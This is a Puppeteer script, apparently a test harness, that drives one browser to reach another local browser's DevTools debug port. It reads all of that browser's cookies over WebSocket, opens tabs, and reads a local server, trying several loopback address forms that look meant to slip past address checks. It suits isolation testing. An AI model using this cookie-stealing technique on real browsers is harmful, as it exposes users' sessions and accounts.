// Uses one browser to attack the debug port of another browser on this machine and to read a server on this machine.
// Returns the result of each step.
import puppeteer from 'puppeteer-core';
import { input, writeResult } from './input.mjs';

const { endpoint, port, path, server } = await input();
const browser = await puppeteer.connect({ browserWSEndpoint: endpoint, defaultViewport: null });
const page = await browser.newPage();

// openPage opens a URL and returns the text of the page.
const openPage = async (address) => {
  try {
    await page.goto(address);
    return await page.evaluate(() => document.body.innerText);
  } catch (error) {
    return `failed: ${error.message}`;
  }
};

// readCookies connects to a debugging server from a page and reads all cookies of its browser.
const readCookies = (address) => page.evaluate((address) => new Promise((done) => {
  const socket = new WebSocket(address);
  socket.onerror = () => done('failed');
  socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: 'Storage.getCookies' }));
  socket.onmessage = (event) => done(event.data);
}), address);

// openTab requests a new tab from a debugging server.
const openTab = (address) => page.evaluate(async (address) => {
  try {
    return String((await fetch(address, { method: 'PUT' })).status);
  } catch {
    return 'failed';
  }
}, address);

const results = {};
for (const host of ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]']) {
  results[host] = {
    version: await openPage(`http://${host}:${port}/json/version`),
    cookies: await readCookies(`ws://${host}:${port}${path}`),
    tab: await openTab(`http://${host}:${port}/json/new?about:blank`),
    server: await openPage(server.replace('127.0.0.1', host)),
  };
}
writeResult(results);
await page.close();
await browser.disconnect();
